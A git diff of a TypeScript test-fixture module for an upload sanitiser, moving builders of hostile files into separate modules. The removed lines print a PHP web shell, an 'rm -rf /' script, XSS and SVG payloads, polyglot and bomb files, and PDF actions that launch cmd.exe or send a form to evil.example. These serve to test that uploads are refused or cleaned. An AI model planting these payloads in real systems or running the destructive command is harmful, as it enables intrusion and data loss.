@@ -1,6 +1,23 @@
 import { Buffer } from 'node:buffer';
-import { crc32, deflateSync } from 'node:zlib';
-import { makePdf, makePhotograph, makePicture, pdfStream } from './pictures.js';
+import { deflateSync } from 'node:zlib';
+import {
+  appended,
+  blank,
+  cut,
+  gif,
+  html,
+  jpegOfSize,
+  jpegWith,
+  php,
+  png,
+  pngChunk,
+  shell,
+  svg,
+  text,
+  zip,
+} from './hostile-bytes.js';
+import { hostilePdfs } from './hostile-pdfs.js';
+import { makePdf, makePhotograph } from './pictures.js';
 
 /** What must not be left of a file that is taken: written by us into it, and looked for in what is served. */
 export const marks = ['<script', '<?php', 'PK\u0003\u0004', 'PhoneOfZhangSan', 'hidden-payload', '#!/bin/sh'];
@@ -12,85 +29,6 @@ export type HostileFile = {
   /** How it is answered; `cleaned`: taken, and what is kept is a picture without any of the marks. */
   ends: Refusal | 'cleaned';
 };
-
-const text = (value: string) => Buffer.from(value, 'latin1');
-const html = text('<html><body><script>alert(document.domain)</script></body></html>');
-const php = text('<?php system($_GET["c"]); ?>');
-const shell = text('#!/bin/sh\nrm -rf /\n');
-const svg = text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>');
-const gif = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
-const repeated = (part: Buffer, size: number) => Buffer.alloc(size, part);
-
-/** An archive of one stored file, found from its end; `offset`: where in the file it starts. */
-function zip(name: string, content: Buffer, offset = 0, comment = 0): Buffer {
-  const sizes = Buffer.alloc(12);
-  sizes.writeUInt32LE(crc32(content), 0);
-  sizes.writeUInt32LE(content.length, 4);
-  sizes.writeUInt32LE(content.length, 8);
-  const common = Buffer.concat([Buffer.alloc(8), sizes, Buffer.from([name.length, 0, 0, 0])]);
-  const local = Buffer.concat([text('PK\x03\x04'), text('\x14\0'), common, text(name), content]);
-  const central = Buffer.concat([text('PK\x01\x02\x14\0\x14\0'), common, Buffer.alloc(14), text(name)]);
-  central.writeUInt32LE(offset, 42);
-  const end = Buffer.alloc(22);
-  end.write('PK\x05\x06', 'latin1');
-  end.writeUInt16LE(1, 8);
-  end.writeUInt16LE(1, 10);
-  end.writeUInt32LE(central.length, 12);
-  end.writeUInt32LE(offset + local.length, 16);
-  end.writeUInt16LE(comment, 20);
-  return Buffer.concat([local, central, end]);
-}
-
-function pngChunk(kind: string, data: Buffer): Buffer {
-  const length = Buffer.alloc(4);
-  length.writeUInt32BE(data.length);
-  const body = Buffer.concat([text(kind), data]);
-  const check = Buffer.alloc(4);
-  check.writeUInt32BE(crc32(body));
-  return Buffer.concat([length, body, check]);
-}
-
-/** A PNG that says how large it is and brings as many packed bytes as `packed` holds. */
-function png(width: number, height: number, packed: Buffer, ...more: Buffer[]): Buffer {
-  const head = Buffer.alloc(13);
-  head.writeUInt32BE(width, 0);
-  head.writeUInt32BE(height, 4);
-  head.set([8, 0, 0, 0, 0], 8);
-  const parts = [
-    pngChunk('IHDR', head),
-    ...more,
-    pngChunk('IDAT', packed),
-    pngChunk('IEND', Buffer.alloc(0)),
-  ];
-  return Buffer.concat([text('\x89PNG\r\n\x1a\n'), ...parts]);
-}
-const blank = (width: number, height: number) =>
-  deflateSync(Buffer.alloc(height * (width + 1)), { level: 9 });
-
-/** A JPEG with a segment of any kind behind its start. */
-async function jpegWith(kind: number, content: Buffer): Promise<Buffer> {
-  const jpeg = await makePicture('jpeg');
-  const head = Buffer.from([0xff, kind, (content.length + 2) >> 8, (content.length + 2) & 255]);
-  return Buffer.concat([jpeg.subarray(0, 2), head, content, jpeg.subarray(2)]);
-}
-const appended = (kind: 'jpeg' | 'png' | 'webp', more: Buffer) => async () =>
-  Buffer.concat([await makePicture(kind), more]);
-const cut = (kind: 'jpeg' | 'png' | 'webp', share: number) => async () => {
-  const whole = await makePicture(kind, { noise: true });
-  return whole.subarray(0, Math.floor(whole.length * share));
-};
-/** A JPEG whose head says another size. */
-async function jpegOfSize(width: number, height: number): Promise<Buffer> {
-  const jpeg = Buffer.from(await makePicture('jpeg'));
-  const frame = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
-  jpeg.writeUInt16BE(height, frame + 5);
-  jpeg.writeUInt16BE(width, frame + 7);
-  return jpeg;
-}
-
-const action = '<< /S /JavaScript /JS (app.alert(1)) >>';
-const packedObjects = (objects: string) =>
-  pdfStream(`/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode`, deflateSync(text(`9 0 ${objects}`)));
 
 const pictures: HostileFile[] = [
   { what: 'a JPEG with a ZIP behind it', make: appended('jpeg', zip('a.sh', shell)), ends: 'cleaned' },
@@ -240,100 +178,10 @@ const others: HostileFile[] = [
   },
 ];
 
-const pdfs: HostileFile[] = [
-  {
-    what: 'a PDF with a script',
-    make: () => makePdf({ catalogue: '/Names 4 0 R', objects: [action] }),
-    ends: 'file_type_refused',
-  },
-  {
-    what: 'a PDF that runs something when opened',
-    make: () =>
-      makePdf({ catalogue: '/OpenAction 4 0 R', objects: ['<< /S /URI /URI (http://evil.example) >>'] }),
-    ends: 'file_type_refused',
-  },
-  {
-    what: 'a PDF that starts a program',
-    make: () => makePdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'] }),
-    ends: 'file_type_refused',
-  },
-  {
-    what: 'a PDF with a file in it',
-    make: () => makePdf({ objects: [pdfStream('/Type /EmbeddedFile', shell)] }),
-    ends: 'file_type_refused',
-  },
-  {
-    what: 'a PDF that sends a form away',
-    make: () => makePdf({ objects: ['<< /S /SubmitForm /F (http://evil.example) >>'] }),
-    ends: 'file_type_refused',
-  },
-  {
-    what: 'a PDF with a film in it',
-    make: () => makePdf({ objects: ['<< /Subtype /RichMedia >>'] }),
-    ends: 'file_type_refused',
-  },
-  {
-    what: 'a PDF that nobody can look into',
-    make: () => makePdf({ objects: ['<< /Encrypt 9 0 R >>'] }),
-    ends: 'file_type_refused',
-  },
-  {
-    what: 'a PDF that spells its script otherwise',
-    make: () => makePdf({ objects: ['<< /S /J#61v#61Scr#69pt /#4A#53 (app.alert(1)) >>'] }),
-    ends: 'file_type_refused',
-  },
-  {
-    what: 'a PDF with a script among packed objects',
-    make: () => makePdf({ objects: [packedObjects(action)] }),
-    ends: 'file_type_refused',
-  },
-  {
-    what: 'a PDF with a script in a stream that calls itself nothing',
-    make: () =>
-      makePdf({
-        objects: [pdfStream('/N 1 /First 4 % endstream (stream)', deflateSync(text(`9 0 ${action}`)))],
-      }),
-    ends: 'file_type_refused',
-  },
-  {
-    what: 'a PDF with objects packed in a way of their own',
-    make: () =>
-      makePdf({
-        objects: [
-          pdfStream(
-            '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]',
-            text(deflateSync(text(action)).toString('hex')),
-          ),
-        ],
-      }),
-    ends: 'file_type_refused',
-  },
-  {
-    what: 'a PDF with a stream that unpacks to a gigabyte',
-    make: () =>
-      makePdf({ objects: [pdfStream('/Filter /FlateDecode', deflateSync(Buffer.alloc(1_000_000_000)))] }),
-    ends: 'file_type_refused',
-  },
-  {
-    what: 'a PDF that is a page of the web too',
-    make: () => makePdf({ objects: [pdfStream('', html)] }),
-    ends: 'file_type_refused',
-  },
-  { what: 'a PDF that is an archive too', make: () => pdfAndArchive(), ends: 'file_type_refused' },
-  {
-    what: 'a PDF with a hundred thousand streams',
-    make: () => makePdf({ objects: [repeated(text('stream\n'), 700_000)] }),
-    ends: 'file_type_refused',
-  },
+export const hostileFiles: readonly HostileFile[] = [
+  ...pictures,
+  ...bombs,
+  ...damaged,
+  ...others,
+  ...hostilePdfs,
 ];
-
-/** An archive inside a stream, whose comment is all the rest of the PDF. */
-function pdfAndArchive(): Buffer {
-  const place = makePdf({ objects: [pdfStream('', zip('a.sh', shell))] });
-  const start = place.indexOf('PK\x03\x04', 0, 'latin1');
-  const end = place.indexOf('PK\x05\x06', 0, 'latin1');
-  const archive = zip('a.sh', shell, start, place.length - end - 22);
-  return Buffer.concat([place.subarray(0, start), archive, place.subarray(end + 22)]);
-}
-
-export const hostileFiles: readonly HostileFile[] = [...pictures, ...bombs, ...damaged, ...others, ...pdfs];
